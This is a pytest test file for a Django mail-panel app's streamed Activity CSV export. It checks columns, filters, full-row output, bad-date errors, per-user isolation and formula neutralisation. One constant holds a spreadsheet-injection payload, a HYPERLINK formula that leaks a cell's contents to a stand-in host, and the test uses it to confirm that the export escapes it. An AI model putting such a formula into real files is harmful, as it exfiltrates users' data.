"""The Activity CSV: every matching row, streamed, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.http import StreamingHttpResponse
from django.test import Client

from mailpanel.accounts.models import User
from mailpanel.activity.export import COLUMNS
from mailpanel.servers.actions import add_server
from mailpanel.vault.actions import generate_ssh_key
from tests.activity.support import (
    FIREFOX_LINUX,
    ActivityEventFactory,
    JobFactory,
    backdate,
    bulk_history,
)

pytestmark = pytest.mark.django_db
URL = "/activity/activity.csv"
FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'


def download(client: Client, **params: str) -> list[dict[str, str]]:
    response = client.get(URL, params)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode()
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def test_the_csv_has_one_line_per_row_with_every_column(owner_client: Client, user: User) -> None:
    backdate(
        ActivityEventFactory.create(
            owner=user,
            action="account.signed_in",
            object_label="",
            ip="203.0.113.9",
            user_agent=FIREFOX_LINUX,
        ),
        datetime(2026, 3, 1, 8, 30, tzinfo=UTC),
    )
    backdate(
        JobFactory.create(owner=user, target="job-target.test"),
        datetime(2026, 3, 2, 9, 0, 5, tzinfo=UTC),
    )

    job, sign_in = download(owner_client)

    assert sign_in == {
        "time": "2026-03-01T08:30:00Z",
        "kind": "Sign-in",
        "action": "account.signed_in",
        "object": "",
        "message": "",
        "ip": "203.0.113.9",
        "browser": "Firefox on Linux",
        "job_state": "",
    }
    assert job == {
        "time": "2026-03-02T09:00:05Z",
        "kind": "Job",
        "action": "selftest",
        "object": "job-target.test",
        "message": "Self-test",
        "ip": "",
        "browser": "",
        "job_state": "succeeded",
    }


def test_a_label_that_looks_like_a_formula_is_neutralised(owner_client: Client, user: User) -> None:
    add_server(
        user,
        name=FORMULA,
        host="192.0.2.25",
        credential=generate_ssh_key(user, "key"),
    )
    JobFactory.create(owner=user, target="@SUM(A1)")
    ActivityEventFactory.create(owner=user, action="dns.plan_applied", message="-2+3")

    rows = {row["action"]: row for row in download(owner_client)}

    assert rows["server.added"]["object"] == "'" + FORMULA
    assert rows["selftest"]["object"] == "'@SUM(A1)"
    assert rows["dns.plan_applied"]["message"] == "'-2+3"


def test_the_csv_carries_the_page_filters(owner_client: Client, user: User) -> None:
    ActivityEventFactory.create(owner=user, object_label="an-action.test")
    JobFactory.create(owner=user, target="a-job.test")

    rows = download(owner_client, kind="jobs")

    assert [row["object"] for row in rows] == ["a-job.test"]


def test_the_page_links_the_csv_with_its_filters(owner_client: Client, user: User) -> None:
    JobFactory.create(owner=user)

    text = owner_client.get("/activity/", {"kind": "jobs", "from": "2020-01-01"}).content
    assert b'href="/activity/activity.csv?kind=jobs&amp;from=2020-01-01"' in text


def test_the_csv_holds_every_row_not_one_page(owner_client: Client, user: User) -> None:
    bulk_history(user, 1_500)

    assert len(download(owner_client)) == 3_000


def test_a_bad_filter_is_a_400_with_the_reason(owner_client: Client) -> None:
    response = owner_client.get(URL, {"from": "2026-13-01"})

    assert response.status_code == 400
    assert b"Enter a real date as year-month-day" in response.content


def test_another_users_rows_are_not_in_the_csv(
    owner_client: Client, user: User, other_user: User
) -> None:
    ActivityEventFactory.create(owner=other_user, object_label="canary-other-action")
    ActivityEventFactory.create(owner=other_user, action="account.signed_in", ip="198.51.100.66")
    JobFactory.create(owner=other_user, target="canary-other-job")
    ActivityEventFactory.create(owner=user, object_label="mine.test")

    rows = download(owner_client)

    assert [row["object"] for row in rows] == ["mine.test"]
